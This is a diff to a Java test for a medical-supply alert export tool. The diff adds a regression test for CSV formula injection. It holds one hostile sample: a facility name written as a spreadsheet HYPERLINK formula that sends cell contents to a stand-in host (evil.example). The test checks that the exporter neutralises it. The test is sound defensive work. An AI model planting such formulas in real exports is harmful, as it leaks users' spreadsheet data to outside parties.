@@ -1,5 +1,6 @@
 package fr.vigie.app;
 
+import fr.vigie.adapter.retex.ReviewFiles;
 import fr.vigie.domain.AlertEvent;
 import fr.vigie.domain.AlertLevel;
 import fr.vigie.domain.DisruptionKind;
@@ -31,6 +32,8 @@ class RetexExportTest {
 
     static final Season SEASON = new Season(2025);
     static final Instant DAY0 = Instant.parse("2025-11-01T05:00:00Z");
+    /** A name a spreadsheet would run as a formula (issue 17). */
+    static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Laboratoire X\")";
     static final WatchlistEntry FFP2 = SampleSeason.watchlist("season-a").stream()
             .filter(e -> e.deviceId().equals("FFP2")).findFirst().orElseThrow();
 
@@ -81,14 +84,16 @@ class RetexExportTest {
     void everySeriesIsExportedWithItsAlertsDisruptionsAndRegion() throws Exception {
         Map<String, ByteArrayOutputStream> files = new TreeMap<>();
         RetexExport.Result result = new RetexExport(new SmallSeason(List.of(new Facility("CH-BRE-08", null, "53", null),
-                new Facility("LABO-X", "Laboratoire X", null, null)))).export(SEASON, name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream()),
+                new Facility("LABO-X", HOSTILE_NAME, null, null)))).export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())),
                 (done, total) -> { });
         assertEquals(List.of("alerts.csv", "report.html", "snapshots.csv", "summary-devices.csv", "summary-regions.csv", "summary.csv"),
                 List.copyOf(files.keySet()));
         assertEquals(new RetexExport.Result(2, 1, 11, 1, 1), result);
         String summary = text(files, "summary.csv");
-        assertTrue(summary.contains("CH-BRE-08;53;Bretagne;FFP2;Appareil de protection respiratoire FFP2;14;7;8;0;"), summary);
+        assertTrue(summary.contains("CH-BRE-08;;53;Bretagne;FFP2;Appareil de protection respiratoire FFP2;14;7;8;0;"), summary);
         assertTrue(summary.contains(";2;1;0;1;3\r\n"), "2 stock-out days, 1 stock-out, announced, 1 alert, 3 days ahead: " + summary);
+        assertTrue(summary.contains("LABO-X;\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1;\"\"Laboratoire X\"\")\";;"),
+                "a hostile facility name is neutralised, not run: " + summary);
         assertTrue(text(files, "summary-regions.csv").contains("\r\n;Région inconnue;FFP2;"), "a facility without region is counted apart");
         assertTrue(text(files, "alerts.csv").contains("SUPPLY_DISRUPTION;2025-11-03T05:00:00Z;FFP2;;;;;;;;;;;FFP2#2025-11-02;OPEN;"
                 + "2025-11-02T05:00:00Z;ALLOCATION;CH-BRE-08 LABO-X;;0,5\r\n"), text(files, "alerts.csv"));
@@ -102,7 +107,7 @@ class RetexExportTest {
     void aDatabaseWithoutRegistryWritesNothing() throws Exception {
         Map<String, ByteArrayOutputStream> files = new TreeMap<>();
         RetexExport.Result result = new RetexExport(new SmallSeason(List.of()))
-                .export(SEASON, name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream()), (done, total) -> { });
+                .export(SEASON, new ReviewFiles(name -> files.computeIfAbsent(name, n -> new ByteArrayOutputStream())), (done, total) -> { });
         assertTrue(result.empty());
         assertEquals(Map.of(), files);
     }
